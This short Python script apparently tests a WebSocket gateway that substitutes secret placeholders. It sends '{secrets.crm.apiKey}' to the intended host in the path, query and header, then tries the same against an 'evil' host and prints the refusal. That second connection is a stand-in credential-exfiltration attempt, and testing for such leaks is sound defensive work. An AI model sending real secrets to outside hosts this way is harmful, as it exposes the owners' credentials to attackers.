# Python's websockets.
import sys

from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

base, evil = (url.replace("https://", "wss://") for url in sys.argv[1:3])
ref = "{secrets.crm.apiKey}"
encoded = "%7Bsecrets.crm.apiKey%7D"
with connect(f"{base}/ws/{encoded}/x?k={encoded}", additional_headers={"X-Api-Key": ref}) as socket:
    print(socket.recv())
try:
    connect(evil + "/", additional_headers={"X": ref})
except InvalidStatus as refusal:
    print(refusal.response.body.decode())
